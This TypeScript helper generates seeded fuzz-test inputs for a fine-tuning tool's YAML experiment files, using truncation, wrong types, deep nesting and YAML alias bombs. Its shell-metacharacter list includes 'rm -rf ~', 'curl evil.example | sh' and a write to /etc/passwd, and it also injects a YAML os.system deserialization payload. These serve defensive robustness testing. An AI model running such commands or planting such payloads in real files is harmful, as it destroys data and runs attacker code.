// Seeded mutations of experiment files and run-folder files for the fuzz tests (test/reliability/).
// Every case is a pure function of (seed, index), so a failure prints the index that reproduces it.
// No library: Mulberry32 (src/core/sampler.ts) and a handful of mutation operators that cover what
// issue 17 lists: broken YAML, wrong types, huge numbers, unknown keys, deep nesting, very long
// strings, shell metacharacters (experiment files); truncated lines, binary garbage, lines of many
// megabytes, wrong types, unknown event types, a future protocol version (events and status files).
import * as fs from 'node:fs';
import * as path from 'node:path';
import YAML from 'yaml';
import { mulberry32 } from '../../src/core/sampler';
import { repoRoot } from '../core/helpers';

export type Rand = () => number;

export const rng = (seed: number, index: number): Rand => mulberry32((seed * 0x9e3779b1) ^ (index * 0x85ebca6b) ^ 0x5bd1e995);
export const pick = <T>(r: Rand, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)];
export const int = (r: Rand, lo: number, hi: number): number => lo + Math.floor(r() * (hi - lo + 1));

/** Strings a shell would act on; an argv array passes them as they are. */
export const SHELL_METACHARACTERS = [
  '$(touch /tmp/finetune-lab-pwned)', '`touch /tmp/finetune-lab-pwned`', '; rm -rf ~ #', '&& curl evil.example | sh',
  '| tee /etc/passwd', '> /dev/null', "'; echo pwned; '", '"$HOME"', '${IFS}', '\\', '\n--resume', '*', '?', '~root', '!!',
];

const LONG = (r: Rand): string => 'x'.repeat(int(r, 1000, 100_000));

/** A value of a random kind: the wrong type for most settings. */
export function randomValue(r: Rand, depth = 0): unknown {
  switch (int(r, 0, 16)) {
    case 0: return null;
    case 1: return r() < 0.5;
    case 2: return int(r, -5, 5);
    case 3: return pick(r, [1e308, -1e308, 2 ** 53 + 1, 1e21, 1e-320, -0, 0.5, 1.5, 1e9, 2 ** 31]);
    case 4: return pick(r, SHELL_METACHARACTERS);
    case 5: return LONG(r);
    case 6: return depth < 3 ? [randomValue(r, depth + 1), randomValue(r, depth + 1)] : [];
    case 7: return depth < 3 ? { [pick(r, ['rank', 'x', 'steps', '__proto__', 'constructor'])]: randomValue(r, depth + 1) } : {};
    case 8: return pick(r, ['', ' ', 'lora', 'full', 'builtin:tiny', 'hf:../../etc', '../../../x', '/etc/passwd', '%2e%2e%2f', 'C:\\x', '\u0000', '\u202e', '😀']);
    case 9: return pick(r, ['.inf', '-.inf', '.nan', 'NaN', 'Infinity', '1e999']);
    case 10: return deepNest(r, int(r, 40, 1000));
    default: return int(r, -1_000_000, 1_000_000_000);
  }
}

function deepNest(r: Rand, depth: number): unknown {
  let v: unknown = 1;
  const asList = r() < 0.5;
  for (let i = 0; i < depth; i++) v = asList ? [v] : { a: v };
  return v;
}

let bases: { name: string; text: string }[] | undefined;

/** The project's own experiment files: the examples and the e2e fixtures' shapes. */
export function baseExperiments(): { name: string; text: string }[] {
  if (bases) return bases;
  const dir = path.join(repoRoot(), 'examples');
  bases = fs.readdirSync(dir).filter((f) => f.endsWith('.finetune.yaml')).sort().map((f) => ({ name: f, text: fs.readFileSync(path.join(dir, f), 'utf8') }));
  bases.push({ name: 'minimal', text: 'name: m\nmodel: {base: builtin:tiny}\ndata: {train: builtin:brown}\nmethod: lora\n' });
  return bases;
}

const SETTING_PATHS = [
  ['name'], ['method'], ['model', 'base'], ['model', 'pretrain_steps'], ['data', 'train'], ['data', 'format'], ['data', 'seq_len'],
  ['lora', 'rank'], ['lora', 'alpha'], ['lora', 'dropout'], ['lora', 'target_modules'], ['lora', 'variant'],
  ['train', 'steps'], ['train', 'batch_size'], ['train', 'lr'], ['train', 'grad_accum'], ['train', 'seed'], ['train', 'precision'], ['train', 'device'],
  ['evals', 'every_steps'], ['evals', 'learning'], ['spectra', 'every_steps'], ['spectra', 'top_k'], ['checkpoint', 'every_steps'],
  ['checkpoint', 'keep_last'], ['launcher', 'kind'], ['launcher', 'nproc_per_node'], ['launcher', 'nnodes'], ['launcher', 'setup'],
  ['launcher', 'partition'], ['sweep'], ['sweep', 'train.lr'], ['sweep', 'lora.rank'], ['description'],
];

function setPath(obj: Record<string, unknown>, at: string[], v: unknown): void {
  let o = obj;
  for (const k of at.slice(0, -1)) {
    if (typeof o[k] !== 'object' || o[k] === null || Array.isArray(o[k])) o[k] = {};
    o = o[k] as Record<string, unknown>;
  }
  o[at[at.length - 1]] = v;
}

/** Text-level damage: what a bad merge, a paste or a half-saved file leaves. */
function damageText(r: Rand, text: string): string {
  const n = int(r, 1, 4);
  let t = text;
  for (let i = 0; i < n; i++) {
    const at = int(r, 0, t.length);
    switch (int(r, 0, 9)) {
      case 0: t = t.slice(0, at); break; // truncated
      case 1: t = t.slice(0, at) + t.slice(at + int(r, 1, 40)); break; // bytes lost
      case 2: t = t.slice(0, at) + pick(r, ['{', '[', ':', '"', "'", '&a', '*a', '!', '|', '>', '%', '@', '`', '\t', '- ', '? ', '#', '\u0000', '\ufeff', '\r', '\\']) + t.slice(at); break;
      case 3: { const ls = t.split('\n'); const k = int(r, 0, ls.length - 1); ls.splice(k, 0, ls[k]); t = ls.join('\n'); break; } // a duplicated line (duplicate key)
      case 4: { const ls = t.split('\n'); const k = int(r, 0, ls.length - 1); ls[k] = `${' '.repeat(int(r, 1, 7))}${ls[k]}`; t = ls.join('\n'); break; } // bad indentation
      case 5: t = t.slice(0, at) + String.fromCharCode(...Array.from({ length: int(r, 1, 30) }, () => int(r, 0, 0xffff))) + t.slice(at); break; // garbage
      case 6: t = `${t}\n${pick(r, ['a: &a [1,1,1,1,1,1,1,1,1]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c,*c,*c,*c,*c,*c]', 'x: !!python/object/apply:os.system ["touch /tmp/finetune-lab-pwned"]', 'y: !!binary aGVsbG8=', '<<: {method: full}', 'z: 2001-12-14'])}`; break;
      case 7: t = `${'['.repeat(int(r, 40, 1000))}${t}`; break; // deep flow nesting
      default: t = t.replace(/\d+(\.\d+)?(e-?\d+)?/, pick(r, ['1e999', '-1', '0', '99999999999999999999', '0x10', '1_000', '.5', '5.', '1e-7', '0o17', 'on', 'yes', '~'])); break;
    }
  }
  return t;
}

/**
 * Experiment case `index` of `seed`: a base experiment changed at the value level (a setting set to
 * a random value, unknown keys, deep nesting, long strings, metacharacters) and/or the text level.
 */
export function mutatedExperiment(seed: number, index: number): string {
  const r = rng(seed, index);
  const base = pick(r, baseExperiments());
  let text = base.text;
  if (r() < 0.75) {
    const doc = YAML.parse(text) as Record<string, unknown>;
    for (let i = int(r, 1, 3); i > 0; i--) {
      const kind = r();
      if (kind < 0.6) setPath(doc, pick(r, SETTING_PATHS), randomValue(r));
      else if (kind < 0.75) setPath(doc, pick(r, [['extra_key'], ['train', 'unknown_key'], ['lora', 'ranks'], ['model', 'trust_remote_code'], ['launcher', 'command']]), randomValue(r));
      else if (kind < 0.85) setPath(doc, pick(r, SETTING_PATHS), pick(r, SHELL_METACHARACTERS));
      else if (kind < 0.95) setPath(doc, ['sweep', pick(r, ['train.lr', 'lora.rank', 'train.seed', 'train.steps'])], Array.from({ length: int(r, 1, 200) }, (_, k) => (r() < 0.9 ? k + 1 : randomValue(r))));
      else delete doc[pick(r, ['name', 'model', 'data', 'method', 'train'])];
    }
    try { text = YAML.stringify(doc, { aliasDuplicateObjects: false }); } catch { /* unrepresentable: keep the text */ }
  }
  if (r() < 0.45) text = damageText(r, text);
  return text;
}
